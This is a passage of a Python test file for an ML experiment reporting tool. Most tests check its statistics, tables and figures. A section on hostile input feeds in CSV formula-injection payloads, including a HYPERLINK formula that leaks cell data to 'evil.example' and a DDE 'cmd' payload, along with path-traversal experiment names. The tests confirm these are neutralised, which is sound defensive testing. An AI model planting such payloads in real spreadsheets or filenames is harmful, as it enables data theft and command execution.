    assert re.findall(r"<th(?: [^>]*)?>(.*?)</th>", head) == [
        "grid point", "single − bigram", "multi − single",
    ]  # fmt: skip
    assert len(rows) == 8  # 2 × 2 × 2 grid points
    losses: dict[tuple[str, str], list[float]] = {}
    for run in shapes.runs("three_axes"):
        grid = run.data.tags
        point = ", ".join(f"{k.rsplit('.', 1)[1]}={grid[TAG + 'grid.' + k]}" for k in
                          ("model.n_embd", "train.block_size", "train.learning_rate"))  # fmt: skip
        losses.setdefault((grid[TAG + "variant"], point), []).append(
            run.data.metrics["best_val_loss"]
        )
    by_point = {r[0]: r for r in rows}
    label = "n_embd=32, block_size=4, learning_rate=0.01"  # the spec's grid keys, sorted
    a, b = losses[("bigram", label)], losses[("single", label)]
    welch = stats.ttest_ind(b, a, equal_var=False).confidence_interval(0.95)
    difference = sum(b) / len(b) - sum(a) / len(a)
    assert by_point[label][1].startswith(f"{difference:+.3f} ± {(welch.high - welch.low) / 2:.3f}")


@slow
def test_header_says_what_was_held_fixed_and_where_runs_came_from(shapes: Store) -> None:
    text = _text(shapes.html("three_axes"))
    held = text.split("held fixed", 1)[1].split("set by each variant", 1)[0]
    assert "train.batch_size=32" in held and "train.max_iters=40" in held
    assert "block_size" not in held and "seed" not in held
    assert "set by each variant model.kind" in text
    assert "spec spec.yaml" in text and "git commit c0ffeec0ffee" in text
    assert "data tinyshakespeare (sha256 abababababababab…)" in text
    assert "cpu (48 runs)" in text


@slow
def test_every_best_val_loss_says_which_statistic(shapes: Store) -> None:
    """No bare "best val loss": each says whether it is one run's (min over its evals) or a
    mean over seeds."""
    html = shapes.html("three_axes")
    assert "mean best val loss" in _table_rows_header(html, "Leaderboard")
    text = _text(html).lower()
    assert (
        "mean over seeds of each run's best val loss (its lowest val loss over its evals)" in text
    )
    named = ("mean best val loss", "mean over seeds of best val loss", "each run's best val loss",
             "this run's best val loss", "best val loss of each run")  # fmt: skip
    for phrase in named:
        text = text.replace(phrase, "")
    assert "best val loss" not in text
    assert "best-val-loss" not in text


def test_loss_curves_show_where_variants_differ() -> None:
    import pandas as pd

    from workbench.report.figures import loss_range

    curves = pd.DataFrame({"step": [0, 0, 100, 100, 200, 200],
                           "value": [4.7, 4.6, 2.6, 2.5, 2.4, float("nan")]})  # fmt: skip
    low, high = loss_range(curves)  # type: ignore[misc]
    assert 2.3 < low < 2.4 and 2.6 < high < 2.7
    assert loss_range(curves[curves["step"] == 0]) is None


def _report(store: Store, *names: str) -> list[Path]:
    from workbench.report import write_reports

    return write_reports(store.uri, list(names), store.folder / "more")


def _table_rows_header(html: str, heading: str) -> list[str]:
    head = html.split(f">{heading}<", 1)[1].split("</thead>", 1)[0]
    return re.findall(r"<th(?: [^>]*)?>(.*?)</th>", head)


# --- hostile stores and names (issue 14) ----------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A shared store: a formula as a variant, runs without a variant tag or with malformed
    workbench tags beside good ones, an experiment with no usable run, hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    store = Store(folder)
    client = store.client()
    experiment_id = client.create_experiment("shared")
    for seed in (1, 2):
        fabricate(client, experiment_id, FORMULA, seed, params={"train.grad_clip": "-0.5"})
        fabricate(client, experiment_id, "+cmd|' /C calc'!A0", seed, index=1)
    fabricate(client, experiment_id, None, 3)  # someone else's run: no variant tag
    fabricate(client, experiment_id, "bigram", 4, tags={TAG + "seed": "four"})
    fabricate(client, experiment_id, "bigram", 5, tags={TAG + "pid": "not-a-pid"},
              status="RUNNING")  # fmt: skip
    broken = client.create_experiment("broken")
    fabricate(client, broken, None, 1)
    for name in ("../../escape", "/abs/path", "escape", "n" * 300):
        fabricate(client, client.create_experiment(name), "bigram", 1)
    return store


@slow
def test_malformed_runs_are_skipped_with_one_line_each(hostile: Store) -> None:
    result = CliRunner().invoke(
        app,
        ["report", "--tracking-uri", hostile.uri, "-e", "shared", "--out", str(hostile.reports)],
    )
    assert result.exit_code == 0, result.output
    skipped = [line for line in result.stderr.splitlines() if "skipped run" in line]
    assert len(skipped) == 3, result.stderr
    assert any("no workbench.variant tag" in line for line in skipped)
    assert any("workbench.seed='four' is not a number" in line for line in skipped)
    assert any("workbench.pid='not-a-pid'" in line for line in skipped)
    assert "Traceback" not in result.output
    assert "4 — 4 finished" in _text(hostile.html("shared"))


@slow
def test_one_experiment_that_cannot_be_reported_costs_one_line(hostile: Store) -> None:
    out = hostile.folder / "all"
    result = CliRunner().invoke(app, ["report", "--tracking-uri", hostile.uri, "--out", str(out)])
    assert result.exit_code == 1
    failures = [line for line in result.stderr.splitlines() if "not reported" in line]
    assert failures == [
        f"broken: not reported: {hostile.uri}: experiment 'broken' has no well-formed workbench run"
    ]
    assert "Traceback" not in result.output
    assert len(list(out.glob("*.html"))) == 5  # shared and the four hostile names


@slow
def test_csv_cells_never_start_a_formula(hostile: Store) -> None:
    import csv

    _report(hostile, "shared")
    with (hostile.folder / "more" / "shared.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    header, body = rows[0], rows[1:]
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    assert not [c for c in cells if c[:1] in ("+", "-") and not _is_number(c)]
    variant = header.index(f"tags.{TAG}variant")
    assert {row[variant] for row in body} == {"'" + FORMULA, "'+cmd|' /C calc'!A0"}
    clip = header.index("params.train.grad_clip")
    assert {row[clip] for row in body} == {"-0.5", ""}  # a negative number stays a number


@slow
def test_an_experiment_name_is_never_a_path(hostile: Store, tmp_path: Path) -> None:
    from workbench.report import write_reports

    names = ["../../escape", "/abs/path", "escape", "n" * 300]
    out = tmp_path / "deep" / "reports"
    paths = write_reports(hostile.uri, names, out)
    assert len(paths) == 8 and len(set(paths)) == 8
    for path in paths:
        assert path.resolve().parent == out.resolve(), path
        assert len(path.name) < 100
    stems = [p.stem for p in paths[::2]]
    assert stems[2] == "escape"  # a safe name is its own file name
    assert stems[0].startswith("escape-") and stems[1].startswith("abs_path-")
    assert not list((tmp_path / "deep").glob("*.html")) and not list(tmp_path.glob("*.html"))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- no store needed -----------------------------------------------------------------------------


def test_importing_the_report_package_is_light() -> None:
    code = (
        "import sys, workbench.report; "
        "print(sorted(m for m in ('mlflow', 'pandas', 'matplotlib', 'torch') if m in sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


def test_confidence_interval_is_t_based() -> None:
    from workbench.report.analysis import half_width, interval, t_quantile

    # mean 2, s = 1, n = 3: t(0.975, 2) = 4.3027 → 4.3027 / √3
    assert half_width([1.0, 2.0, 3.0]) == pytest.approx(2.48414, abs=1e-4)
    assert interval([1.0, 2.0, 3.0]) == pytest.approx((2 - 2.48414, 2 + 2.48414), abs=1e-4)
    assert half_width([2.0]) != half_width([2.0])  # NaN: no interval from one seed
    assert interval([2.0]) == (2.0, 2.0)
    assert t_quantile(1.0) == pytest.approx(12.7062, abs=1e-4)  # tables of Student's t
    assert t_quantile(2.5) == pytest.approx(3.5747, abs=1e-3)  # Welch: fractional df


def test_facets_never_leave_an_empty_panel() -> None:
    import pandas as pd

    from workbench.report.figures import _facets

    axes = ["train.block_size", "train.learning_rate"]
    full = pd.DataFrame({"grid.train.block_size": [8, 8, 16, 16],
                         "grid.train.learning_rate": [0.001, 0.01, 0.001, 0.01]})  # fmt: skip
    _, facets = _facets(full, axes)
    assert facets["row"] == "block_size" and facets["col"] == "learning_rate"
    assert facets["row_order"] == ["8", "16"]  # numeric order, not text order

    holed = full.iloc[:3]  # one combination excluded: a rows × columns grid would leave a hole
    frame, facets = _facets(holed, axes)
    assert "row" not in facets
    assert facets["col_order"] == [
        "block_size=8, learning_rate=0.001", "block_size=8, learning_rate=0.01",
        "block_size=16, learning_rate=0.001",
    ]  # fmt: skip
    assert set(frame[facets["col"]]) == set(facets["col_order"])

    _, facets = _facets(full.iloc[[0]], [])
    assert facets == {}


# --- helpers -------------------------------------------------------------------------------------


def _text(html: str) -> str:
    import html as html_module

    return " ".join(html_module.unescape(re.sub(r"<[^>]+>", " ", html)).split())


def _table_rows(html: str, heading: str) -> list[list[str]]:
    """The body rows of the first table after ``heading``, as unescaped cell texts."""
    import html as html_module

    after = html.split(f">{heading}<", 1)[1]
    body = after.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    return [
        [" ".join(html_module.unescape(re.sub(r"<[^>]+>", " ", c)).split()) for c in cells]
        for cells in (re.findall(r"<td[^>]*>(.*?)</td>", row, re.S) for row in body.split("</tr>"))
        if cells
    ]
